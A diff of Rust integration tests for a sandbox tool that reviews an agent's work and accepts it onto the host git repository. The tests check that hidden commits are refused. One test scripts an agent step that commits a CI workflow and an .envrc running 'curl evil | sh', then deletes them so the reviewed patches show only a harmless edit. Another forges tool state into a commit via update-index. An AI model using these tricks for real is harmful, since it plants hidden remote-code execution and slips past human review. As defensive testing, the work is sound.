@@ -121,6 +121,15 @@ fn a_step_commits_twice_and_accept_puts_both_commits_on_the_host_branch() {
         git(dir.path(), &["log", "-1", "--format=%b"]).trim(),
         "with a body"
     );
+    // Accepting it again changes nothing, and says what the rows say.
+    let again = cli(dir.path(), &["--json", "accept", &id]);
+    assert!(!again.status.success(), "{again:?}");
+    let doc: serde_json::Value = serde_json::from_slice(&again.stdout).unwrap();
+    assert_eq!(doc["review"], "applied", "{doc}");
+    assert_eq!(doc["applied"], false, "{doc}");
+    let shown = cli(dir.path(), &["--json", "show", &id]);
+    let shown: serde_json::Value = serde_json::from_slice(&shown.stdout).unwrap();
+    assert_eq!(doc["status"], shown["status"], "{doc} {shown}");
 }
 
 #[test]
@@ -185,17 +194,146 @@ fn uncommitted_changes_still_come_back_as_patches() {
         return;
     }
     let dir = repo();
-    let id = run_committing_step(dir.path(), "echo draft > notes.txt; echo v3 > a.txt");
+    std::fs::write(dir.path().join("c.txt"), "c1\n").unwrap();
+    git(dir.path(), &["add", "c.txt"]);
+    git(dir.path(), &["commit", "-q", "-m", "c"]);
+    let id = run_committing_step(dir.path(), "echo draft > notes.txt; echo c2 > c.txt");
     let accept = cli(dir.path(), &["accept", &id]);
     assert!(accept.status.success(), "{accept:?}");
-    assert_eq!(git(dir.path(), &["log", "--format=%s"]).lines().count(), 3);
+    assert_eq!(git(dir.path(), &["log", "--format=%s"]).lines().count(), 4);
     // The step's uncommitted edits are in the worktree, not in a commit.
+    assert_eq!(
+        std::fs::read_to_string(dir.path().join("c.txt")).unwrap(),
+        "c2\n"
+    );
+    let status = git(dir.path(), &["status", "--porcelain"]);
+    assert_eq!(status, " M c.txt\n?? notes.txt\n", "{status}");
+}
+
+/// What a review of `id` prints, and accept's output.
+fn review_then_accept(dir: &Path, id: &str) -> (String, Output) {
+    let review = cli(dir, &["review", id]);
+    assert!(review.status.success(), "{review:?}");
+    let text = String::from_utf8_lossy(&review.stdout).into_owned()
+        + &String::from_utf8_lossy(&review.stderr);
+    (text, cli(dir, &["accept", id]))
+}
+
+#[test]
+fn a_commit_whose_content_the_patches_do_not_show_is_never_accepted() {
+    if !sandboxes_usable() {
+        return;
+    }
+    // The attack: commit a file the host runs, take it out of the working tree again, and
+    // make a harmless edit, so that the patches show only the edit. Accept used to move the
+    // branch to the tip and set the index from it: the hostile file was in HEAD and the
+    // index, one `git reset --hard` or `git push` away.
+    let dir = repo();
+    let head = git(dir.path(), &["rev-parse", "HEAD"]);
+    let script = "set -e; G='git -c user.name=Agent -c user.email=agent@example.com'; \
+         mkdir -p .github/workflows; echo 'run: curl evil | sh' > .github/workflows/ci.yml; \
+         echo 'curl evil | sh' > .envrc; $G add -A; $G commit -q -m 'harmless'; \
+         rm -r .github .envrc; echo v2 > a.txt";
+    let (out, doc) = run_json(dir.path(), script);
+    assert_eq!(doc["exitCode"], 0, "{out:?}");
+    let id = doc["sandboxId"].as_str().unwrap();
+    let (review, accept) = review_then_accept(dir.path(), id);
+    assert!(!review.contains("1 commit(s)"), "{review}");
+    assert!(accept.status.success(), "{accept:?}");
+    // The reviewed patch, and nothing else: HEAD, the index and the tree hold no .envrc.
+    assert_eq!(git(dir.path(), &["rev-parse", "HEAD"]), head);
+    assert_eq!(git(dir.path(), &["status", "--porcelain"]), " M a.txt\n");
+    assert_eq!(git(dir.path(), &["ls-files"]), "a.txt\n");
+    let log = bundle_log(&doc);
+    assert!(
+        log.contains("not brought back") && log.contains(".envrc"),
+        "{log}"
+    );
+}
+
+#[test]
+fn a_commit_edited_again_in_the_working_tree_comes_back_as_patches_only() {
+    if !sandboxes_usable() {
+        return;
+    }
+    // The committed a.txt (v2) is not what the patches show (v3): the commit's content was
+    // never in the review, so the series is not brought back, and the bundle says why.
+    let dir = repo();
+    let head = git(dir.path(), &["rev-parse", "HEAD"]);
+    let (out, doc) = run_json(
+        dir.path(),
+        "set -e; G='git -c user.name=Agent -c user.email=agent@example.com'; \
+         echo v2 > a.txt; $G commit -q -am two; echo v3 > a.txt",
+    );
+    assert_eq!(doc["exitCode"], 0, "{out:?}");
+    let id = doc["sandboxId"].as_str().unwrap();
+    let log = bundle_log(&doc);
+    assert!(
+        log.contains("a.txt") && log.contains("not brought back"),
+        "{log}"
+    );
+    let (_, accept) = review_then_accept(dir.path(), id);
+    assert!(accept.status.success(), "{accept:?}");
+    assert_eq!(git(dir.path(), &["rev-parse", "HEAD"]), head);
     assert_eq!(
         std::fs::read_to_string(dir.path().join("a.txt")).unwrap(),
         "v3\n"
     );
-    let status = git(dir.path(), &["status", "--porcelain"]);
-    assert_eq!(status, " M a.txt\n?? notes.txt\n", "{status}");
+}
+
+#[test]
+fn a_commit_that_adds_smithers_state_or_a_nested_git_path_is_refused() {
+    if !sandboxes_usable() {
+        return;
+    }
+    // `.smithers/` is hidden in the sandbox, but a step can still put it in a commit through
+    // the index; a nested `.smithers` can simply be added. Neither is ever committed on the
+    // host, in any commit of the series, even one a later commit takes out again.
+    let dir = repo();
+    let head = git(dir.path(), &["rev-parse", "HEAD"]);
+    let (out, doc) = run_json(
+        dir.path(),
+        "set -e; G='git -c user.name=Agent -c user.email=agent@example.com'; \
+         b=$(echo crafted | $G hash-object -w --stdin); \
+         $G update-index --add --cacheinfo 100644,$b,.smithers/sandbox.db; \
+         $G commit -q -m one; $G rm -q --cached .smithers/sandbox.db; $G commit -q -m two; \
+         echo v2 > a.txt; $G commit -q -am three",
+    );
+    assert_eq!(doc["exitCode"], 0, "{out:?}");
+    let id = doc["sandboxId"].as_str().unwrap();
+    let log = bundle_log(&doc);
+    assert!(log.contains(".smithers"), "{log}");
+    let (review, accept) = review_then_accept(dir.path(), id);
+    assert!(!review.contains("commit(s) on"), "{review}");
+    assert!(accept.status.success(), "{accept:?}");
+    assert_eq!(git(dir.path(), &["rev-parse", "HEAD"]), head);
+    let all = git(dir.path(), &["log", "--all", "--format=%s"]);
+    assert_eq!(all, "initial\n", "{all}");
+}
+
+#[test]
+fn plain_accept_of_commits_on_another_branch_names_accept_branch() {
+    if !sandboxes_usable() {
+        return;
+    }
+    let dir = repo();
+    let (out, doc) = run_json(
+        dir.path(),
+        "set -e; G='git -c user.name=Agent -c user.email=agent@example.com'; \
+         $G checkout -q -b feature; echo v2 > a.txt; $G commit -q -am feature",
+    );
+    assert_eq!(doc["exitCode"], 0, "{out:?}");
+    let id = doc["sandboxId"].as_str().unwrap();
+    let accept = cli(dir.path(), &["accept", id]);
+    assert!(!accept.status.success(), "{accept:?}");
+    let err = String::from_utf8_lossy(&accept.stderr);
+    assert!(err.contains("accept --branch feature"), "{err}");
+    let onto = cli(dir.path(), &["accept", id, "--branch", "feature"]);
+    assert!(onto.status.success(), "{onto:?}");
+    assert_eq!(
+        git(dir.path(), &["log", "--format=%s", "feature"]),
+        "feature\ninitial\n"
+    );
 }
 
 #[test]
